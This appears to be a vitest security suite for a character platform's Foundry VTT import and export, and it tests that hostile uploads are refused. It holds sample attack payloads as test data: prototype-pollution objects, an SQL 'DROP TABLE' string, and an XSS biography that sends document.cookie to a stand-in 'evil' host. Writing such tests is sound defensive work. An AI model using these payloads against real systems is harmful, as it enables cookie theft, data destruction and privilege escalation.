/**
 * The hostile-input suite, Foundry VTT interop: what a player uploads as an "actor" to importFoundryActor and who
 * may take a character out with exportFoundryActor, through the real gateway. Every refusal is BAD_USER_INPUT with
 * the rule it broke (or FORBIDDEN), leaks nothing, and creates no character.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gameFixtures } from '../helpers/game-fixtures.js';
import { startTestPlatform, type TestPlatform } from '../helpers/platform.js';
import { expectRefused, expectUnchanged } from './expect-refused.js';

let platform: TestPlatform;
let fx: ReturnType<typeof gameFixtures>;
let characterId: string;
/**
 * An actor as Foundry JSON: the attacks edit it at any depth (wrong types, forbidden keys, 500 items), which is
 * exactly what no fixed type allows, so it is loose on purpose.
 */
type ActorJson = Record<string, any>;
let actor: ActorJson;

const EXPORT = 'query($id: ID!) { exportFoundryActor(characterId: $id) }';
const IMPORT = 'mutation($input: ImportFoundryActorInput!) { importFoundryActor(input: $input) { character { id owner name } notImported { path reason } } }';
const OWNED = 'query($owner: ID) { characters(first: 1, filter: { owner: $owner }) { totalCount } }';
const ATTACKER = 'fvtt-attacker';

beforeAll(async () => {
  platform = await startTestPlatform();
  fx = gameFixtures(platform);
  const campaignId = await fx.campaign('fvtt-dm', ['fvtt-player']);
  characterId = await fx.character('fvtt-player', 'Tordek');
  expect((await fx.joinParty('fvtt-player', campaignId, characterId)).errors).toBeUndefined();
  actor = (await fx.ok(EXPORT, { id: characterId }, 'fvtt-player')).exportFoundryActor;
});
afterAll(async () => platform?.stop());

const owned = async (owner = ATTACKER) => (await fx.ok(OWNED, { owner }, owner)).characters.totalCount as number;
const copy = (): ActorJson => structuredClone(actor);

/** An import the attacker sends: refused with the rule, and no character of theirs appears. */
async function refusedImport(upload: unknown, rule: string) {
  const before = await owned();
  const answer = await platform.gql(IMPORT, { input: { actor: upload } }, ATTACKER);
  expectRefused(answer, 200, 'BAD_USER_INPUT');
  expect(answer.errors?.[0]?.extensions?.rule).toBe(rule);
  await expectUnchanged(before, () => owned(), "the attacker's characters");
}

describe('importFoundryActor refuses what is not a character, naming the rule', () => {
  it('1.5 MB of JSON (the limit is 1,000,000 characters, under the gateway body limit)', () =>
    refusedImport({ ...copy(), flags: { padding: 'x'.repeat(1_500_000) } }, 'FOUNDRY_ACTOR_TOO_LARGE'));

  it('nesting 200 levels deep', () => {
    const upload = copy();
    let node: ActorJson = upload.flags;
    for (let i = 0; i < 200; i++) node = node.next = {};
    return refusedImport(upload, 'FOUNDRY_ACTOR_TOO_DEEP');
  });

  it('a __proto__ key (prototype pollution)', () =>
    refusedImport({ ...copy(), system: JSON.parse(`{"__proto__": {"owner": "${ATTACKER}", "isAdmin": true}, "abilities": {}}`) }, 'FOUNDRY_FORBIDDEN_KEY'));

  it('a constructor.prototype path inside an item', () => {
    const upload = copy();
    upload.items[0].system = { constructor: { prototype: { polluted: true } } };
    return refusedImport(upload, 'FOUNDRY_FORBIDDEN_KEY');
  });

  it('a strength of 99', () => {
    const upload = copy();
    upload.system.abilities.str.value = 99;
    return refusedImport(upload, 'FOUNDRY_ABILITY_SCORE');
  });

  it('wrong types: hit points as a string of SQL', () => {
    const upload = copy();
    upload.system.attributes.hp.value = '1; DROP TABLE characters; --';
    return refusedImport(upload, 'FOUNDRY_FIELD_TYPE');
  });

  it('500 items', () =>
    refusedImport(
      { ...copy(), items: [...actor.items, ...Array.from({ length: 500 }, (_, i) => ({ name: `Pebble ${i}`, type: 'loot', system: { quantity: 1 } }))] },
      'FOUNDRY_TOO_MANY_ITEMS',
    ));

  it('a homebrew class', () => {
    const upload = copy();
    upload.items = upload.items.map((item: ActorJson) =>
      item.type === 'class' ? { ...item, name: 'Gunslinger', system: { ...item.system, identifier: 'gunslinger' } } : item,
    );
    return refusedImport(upload, 'FOUNDRY_UNKNOWN_CLASS');
  });

  it('a script in the biography', () => {
    const upload = copy();
    upload.system.details.biography.value = '<p>Brave.</p><img src=x onerror="fetch(`//evil/`+document.cookie)">';
    return refusedImport(upload, 'FOUNDRY_BIOGRAPHY_MARKUP');
  });

  it('a name of 100,000 characters', () => refusedImport({ ...copy(), name: 'N'.repeat(100_000) }, 'TEXT_TOO_LONG'));

  it('an NPC stat block', () => refusedImport({ ...copy(), type: 'npc' }, 'FOUNDRY_ACTOR_TYPE'));

  it('more spent hit dice than the character has', async () => {
    const upload = copy();
    upload.items.find((item: ActorJson) => item.type === 'class').system.hd.spent = 20;
    await refusedImport(upload, 'HIT_DICE_SPENT');
  });

  it('leaves Object.prototype untouched after all of them', () => {
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('importFoundryActor gives the character to the caller, whatever the actor says', () => {
  it('ignores an owner or character id planted in the actor', async () => {
    const upload = copy();
    upload.owner = 'fvtt-player';
    upload.flags['dnd-tools'] = { characterId, owner: 'fvtt-player' };
    const answer = await platform.gql(IMPORT, { input: { actor: upload } }, ATTACKER);
    expect(answer.errors).toBeUndefined();
    expect(answer.data?.importFoundryActor.character).toMatchObject({ owner: ATTACKER, name: 'Tordek' });
    expect(answer.data?.importFoundryActor.character.id).not.toBe(characterId);
  });
});

describe('exportFoundryActor', () => {
  it("is the owner's and the campaign DM's; a stranger gets FORBIDDEN and no actor", async () => {
    expect((await fx.ok(EXPORT, { id: characterId }, 'fvtt-dm')).exportFoundryActor.name).toBe('Tordek');
    const stranger = await platform.gql(EXPORT, { id: characterId }, ATTACKER);
    expectRefused({ status: 200, errors: stranger.errors }, 200, 'FORBIDDEN');
    expect(stranger.data).toBeNull();
  });

  it('answers NOT_FOUND for an unknown id', async () => {
    const answer = await platform.gql(EXPORT, { id: '00000000-0000-4000-8000-000000000000' }, ATTACKER);
    expect(answer.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
  });
});
